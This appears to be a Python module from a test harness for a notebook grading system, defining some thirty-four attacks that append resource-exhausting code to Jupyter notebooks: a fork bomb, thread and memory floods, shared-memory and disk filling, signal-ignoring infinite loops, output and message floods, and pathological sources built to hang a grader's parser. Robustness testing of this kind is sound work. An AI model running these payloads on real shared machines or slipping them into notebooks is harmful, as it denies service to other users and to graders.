"""Using up what others need: processes, threads, memory, disk, output, time."""

import os

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from attacks.attack import Attack, before, within

SWALLOW = """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""
BOMB = """
import os
for _ in range(100000):
    try:
        os.fork()
    except OSError:
        pass
"""
THREADS = """
import threading, time
for _ in range(100000):
    threading.Thread(target=time.sleep, args=(100,)).start()
"""
SHARED = """
import mmap, time
kept = []
while True:
    kept.append(mmap.mmap(-1, 100_000_000))
    kept[-1][::4096] = b"x" * len(kept[-1][::4096])
"""
DISK = """
import itertools, os
for number in itertools.count():
    for folder in ("/tmp", "/dev/shm", "/run", "."):
        try:
            with open(f"{folder}/{number}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 1_000_000)
                file.write(b"x" * 1_000_000)
        except OSError as error:
            if number > 5000:
                raise
"""
MESSAGES = """
import time
from IPython.display import display
while True:
    display({"text/plain": "x"}, raw=True)
"""
NESTED = """
from IPython.display import publish_display_data
deep = value = {}
for _ in range(900):
    value["x"] = {}
    value = value["x"]
publish_display_data({"application/json": deep, "text/plain": "x"})
"""
FILES = """
import os
held = 0
while held < 20_000_000_000:
    file = os.memfd_create("x")
    for _ in range(20):
        held += os.write(file, b"x" * 10_000_000)
"""
SEGMENTS = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(200):
    place = libc.shmat(libc.shmget(0, 100_000_000, 0o1600), None, 0)
    if place != 2 ** 64 - 1:
        ctypes.memset(place, 1, 100_000_000)
"""
FRAMES = """
kernel = get_ipython().kernel
message = kernel.session.msg("stream", {"name": "stdout", "text": "x"}, parent=kernel.get_parent())
frames = [b"stream", *kernel.session.serialize(message), *[bytes(15_000_000)] * 1000]
kernel.iopub_thread.schedule(lambda: kernel.iopub_thread.socket.send_multipart(frames, copy=False))
"""


def _source(source: str):
    """Damage for the grader that reads it: a cell with a source on which a careless reader spends hours, or recurses."""

    def damage(notebook: NotebookNode) -> None:
        notebook.cells.append(new_code_cell(source))

    return damage


def _nested(folder, canary):
    for _ in range(1200):
        os.mkdir("d")
        os.chdir("d")


CHILDREN = """
import contextlib, os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for _ in range(100):
    if not os.fork():
        end = time.process_time() + 1
        while time.process_time() < end: pass
        os._exit(0)
    with contextlib.suppress(ChildProcessError): os.wait()
"""

ATTACKS = [
    before("resources-forkbomb", BOMB),
    before("resources-threads", THREADS),
    before("resources-memory", "kept = []\nwhile True:\n    kept.append(bytearray(100_000_000))"),
    before("resources-shared", SHARED),
    before("resources-disk", DISK),
    before("resources-inodes", "import os\nfor n in range(10**7): open(f'/dev/shm/{n}', 'w').close()"),
    before("resources-flood", "while True: print('x' * 100_000)"),
    before("resources-lines", "while True: print('x', flush=True)"),
    before("resources-oneline", "print('x' * 400_000_000)"),
    before("resources-messages", MESSAGES),
    before("resources-nested", NESTED),
    before("resources-loop", SWALLOW),
    before("resources-sleep", "import time\nwhile True: time.sleep(1000)"),
    within("resources-result", "import numpy as np\nreturn np.zeros((20_000, 20_000))"),
    before("resources-memoryfiles", FILES),
    before("resources-segments", SEGMENTS),
    before("resources-frames", FRAMES),
    before("resources-newlines", "", damage=_source("\n" * 200_000 + "def (")),
    before("resources-bigsource", "", damage=_source(f"x = [{'0, ' * 1_000_000}]")),
    before("resources-deepsource", f"x = 1{'+1' * 1400}"),
    before("resources-deepersource", "", damage=_source(f"x = {'(' * 100_000}")),
    before("resources-digits", f"x = 0x{'f' * 5000}"),
    before("resources-names", "", damage=_source("".join(f"name{n} = [name{n + 1}]\n" for n in range(2000)))),
    before("resources-manylines", "", damage=_source("x=1\n" * 24_000)),
    before("resources-elif", "", damage=_source("if x:\n pass\n" + "elif x:\n pass\n" * 600)),
    before("resources-dotted", "", damage=_source(f"import a{'.a' * 45_000}")),
    before("resources-error", "", damage=_source("raise ValueError('\x1b[31m' * 4_000_000)")),
    before("resources-bignumber", "x = 10 ** 10 ** 10"),
    before("resources-nestedfolders", "", beside=_nested),
    before("resources-manyfiles", "", beside=lambda folder, canary: [(folder / f"{n}.txt").touch() for n in range(10_000)]),
    before("resources-hugefile", "", beside=lambda folder, canary: [(folder / "x").touch(), os.truncate("x", 5 * 10**9)]),
    before("resources-pipes", "", beside=lambda folder, canary: [os.mkfifo(name) for name in ("x.csv", "timestamp.txt")]),
    Attack("resources-pipefornotebook", {}, beside=lambda folder, canary: [os.unlink("mlp.ipynb"), os.mkfifo("mlp.ipynb")]),
    before("resources-children", CHILDREN),
]
